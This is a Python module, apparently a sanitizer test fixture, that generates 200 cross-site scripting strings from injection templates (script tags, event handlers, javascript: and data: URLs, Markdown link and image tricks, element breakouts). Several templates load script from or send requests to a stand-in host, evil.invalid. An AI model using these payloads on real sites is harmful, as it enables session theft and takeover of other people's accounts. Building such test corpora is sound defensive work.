"""Two hundred texts that would run a script, or ask another server for something, on a page that is careless.

What it is: every way in (markup, event handlers, addresses of links and images, Markdown that becomes
markup, ends of elements) with every way to call `attack(n)`. What it is not: a list found elsewhere.
"""

from __future__ import annotations

CALLS = ("attack()", "window.attack()", "top['att'+'ack']()", "fetch('https://evil.invalid/')")
WAYS_IN = (
    "<script>{c}</script>",
    "<ScRiPt >{c}</sCrIpT>",
    "<script src='https://evil.invalid/x.js'></script><!--{c}-->",
    "<img src=x onerror={c}>",
    "<img src='https://evil.invalid/{c}'>",
    "<svg onload={c}>",
    "<svg><script>{c}</script></svg>",
    "<body onload={c}>",
    "<iframe srcdoc='<script>{c}</script>'></iframe>",
    '<iframe src="javascript:{c}"></iframe>',
    '<a href="javascript:{c}">click</a>',
    "<details open ontoggle={c}>x</details>",
    "<input autofocus onfocus={c}>",
    "<video><source onerror={c}></video>",
    "<math><mtext><img src=x onerror={c}></mtext></math>",
    "<style>@import 'https://evil.invalid/{c}';</style>",
    "<link rel=stylesheet href='https://evil.invalid/{c}'>",
    "<meta http-equiv=refresh content='0;url=javascript:{c}'>",
    "<base href='https://evil.invalid/{c}'>",
    '<object data="javascript:{c}"></object>',
    '<embed src="data:text/html,<script>{c}</script>">',
    '<form action="javascript:{c}"><button>x</button></form>',
    "<template><script>{c}</script></template>",
    "</textarea><script>{c}</script>",
    "</title><script>{c}</script>",
    "</code></pre><img src=x onerror={c}>",
    "[click](javascript:{c})",
    "[click](JaVaScRiPt:{c})",
    "[click]( javascript:{c})",
    "[click](\tjavascript:{c})",
    "[click](data:text/html,<script>{c}</script>)",
    "[click](vbscript:{c})",
    "[click](blob:{c})",
    "[click](//evil.invalid/{c})",
    "![x](https://evil.invalid/{c})",
    "![x](javascript:{c})",
    '![x](x" onerror="{c})',
    '[x](https://ok.invalid/" onclick="{c})',
    "`<img src=x onerror={c}>`",
    "```html\n<script>{c}</script>\n```",
    '```"><img src=x onerror={c}>\nx\n```',
    "| a | b |\n|---|---|\n| <img src=x onerror={c}> | [x](javascript:{c}) |",
    "> <script>{c}</script>",
    "- <img src=x onerror={c}>\n  - [x](javascript:{c})",
    "# <svg onload={c}>",
    "**<img src=x onerror={c}>**",
    "https://ok.invalid/'onmouseover='{c}",
    "&lt;script&gt;{c}&lt;/script&gt;",
    "\u202e<script>{c}</script>",
    "{{{{constructor.constructor('{c}')()}}}}",
)
PAYLOADS = [way.format(c=call) for way in WAYS_IN for call in CALLS]
